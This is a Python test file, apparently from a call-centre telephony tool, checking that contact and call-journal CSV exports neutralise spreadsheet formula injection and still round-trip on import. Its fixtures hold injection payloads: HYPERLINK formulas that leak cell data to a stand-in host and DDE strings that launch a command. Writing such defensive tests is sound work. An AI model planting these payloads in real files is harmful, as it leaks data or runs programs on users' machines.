"""Formula injection (issue 9, finding 9): no CSV the project writes can make a spreadsheet run a formula.

A cell that starts with ``= + - @``, TAB or CR (or their full-width forms) gets a leading ``'``, the
OWASP advice; a cell that is only a number or a phone number (``+7 916 123-45-67``, ``-5``) is left as it is,
since it can name no function and no other program. ``cti contacts import`` of our own export gives back
exactly what was exported.
"""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from cti.directory import Contact
from cti.safe_text import csv_cell, csv_value
from store import StoreSettings, open_store
from tests.cli_runner import cti
from tests.daemon.conftest import write_config
from tests.store.builders import make_call, missed_for

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
PHONES = "+7 916 123-45-67, 8 (495) 111-22-33"
#: Payloads from the OWASP page and the issue, as names, notes and codes of contacts.
HOSTILE_CONTACTS = (
    # code;name;type;phones;email;notes;plate
    ("=1+1", '=HYPERLINK("https://evil.example/?leak="&A1,"click")', PHONES, "@SUM(1+1)"),
    ("-000126", "=cmd|' /C calc'!A0", "89160000002", "+SUM(1)*cmd|' /C calc'!A0"),
    ("@A1", "-2+3+cmd|' /C calc'!A0", "-", "'=already quoted by its author"),
    ("000128", "＝1+1", "+79160000004", "＠SUM(1)"),
    ("000129", "Иванов Пётр", "8 916 000-00-05", "-5"),
)


def looks_dangerous(value: str) -> bool:
    """What a spreadsheet would read as a formula: a trigger first, unless the cell is only a number/phone."""
    if not value.startswith(TRIGGERS):
        return False
    return not (value[0] in "+-" and all(ch in "0123456789 ()+,.-" for ch in value))


def contacts_of(store_path: Path) -> list[tuple[object, ...]]:
    async def go() -> list[Contact]:
        async with open_store(StoreSettings(path=store_path), region="RU") as store:
            return await store.list_contacts()

    return sorted((c.external_id, c.name, c.kind, c.phones, c.email, c.notes,
                   tuple((v.plate, v.year) for v in c.vehicles)) for c in asyncio.run(go()))


def test_a_contacts_export_neutralises_formulas_keeps_phones_and_imports_back_exactly(tmp_path: Path) -> None:
    """The 1C/Excel user opens the export: no formula runs, phones read as phones, and re-importing it
    (say, into a new server) gives the same directory."""
    first, second = tmp_path / "first", tmp_path / "second"
    first.mkdir(), second.mkdir()
    source = first / "hostile.csv"
    with source.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f, delimiter=";")
        writer.writerow(("code", "name", "type", "phones", "email", "notes", "plate", "year"))
        for code, name, phones, notes in HOSTILE_CONTACTS:
            writer.writerow((code, name, "private", "" if phones == "-" else phones, "", notes, "А123ВС 777", "2019"))
    config = str(write_config(first, 5038))
    cti("contacts", "import", str(source), "--config", config)
    imported = contacts_of(first / "journal.sqlite")
    assert {c[1] for c in imported} == {name for _, name, _, _ in HOSTILE_CONTACTS}

    exported = first / "export.csv"
    cti("contacts", "export", "--config", config, "-o", str(exported))
    rows = list(csv.reader(io.StringIO(exported.read_text(encoding="utf-8"), newline=""), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert [cell for cell in cells if looks_dangerous(cell)] == []
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code["'=1+1"][1] == "'" + HOSTILE_CONTACTS[0][1]
    assert by_code["'=1+1"][3] == PHONES  # a phone stays a phone, not '+7 ...
    assert by_code["-000126"][5] == "'+SUM(1)*cmd|' /C calc'!A0"  # the code is a number: left as it is
    # A quote before a formula is read as a neutralised cell (ours, or another tool's) and removed on import.
    assert by_code["'@A1"][5] == "'=already quoted by its author"
    assert by_code["000128"][1] == "'＝1+1"
    assert by_code["000129"][5] == "-5"  # a number stays a number

    cti("contacts", "import", str(exported), "--config", str(write_config(second, 5038)))
    assert contacts_of(second / "journal.sqlite") == imported


def test_the_journal_and_register_csv_neutralise_caller_names_not_numbers(tmp_path: Path) -> None:
    """A caller controls their display name; `cti calls/missed --format csv` opened in a spreadsheet runs nothing."""
    config = str(write_config(tmp_path, 5038))
    name = '=HYPERLINK("https://evil.example/?"&A2,"Call me back")'

    async def fill() -> None:
        async with open_store(StoreSettings(path=tmp_path / "journal.sqlite"), region="RU") as store:
            record = make_call("1795479242.0", caller="+79161234567", caller_name=name, queue="@support",
                               hangup_cause_txt="-Normal Clearing")
            store.stage_call(record, missed_for(record), ())

    asyncio.run(fill())
    for command in ("calls", "missed"):
        out = cti(command, "--config", config, "--format", "csv").stdout
        (row,) = csv.DictReader(io.StringIO(out, newline=""))
        assert row["caller_name"] == "'" + name, command
        assert row["caller"] == "+79161234567", command
        assert row["queue"] == "'@support", command
        assert not [value for value in row.values() if looks_dangerous(value)], (command, row)


@given(st.text())
def test_every_string_survives_the_csv_round_trip_and_never_starts_a_formula(value: str) -> None:
    cell = csv_cell(value)
    assert csv_value(cell) == value
    assert not looks_dangerous(cell), cell


@given(st.sampled_from(TRIGGERS), st.text())
def test_a_quote_we_did_not_add_is_kept(trigger: str, rest: str) -> None:
    authored = "'" + trigger + rest
    assert csv_value(csv_cell(authored)) == authored
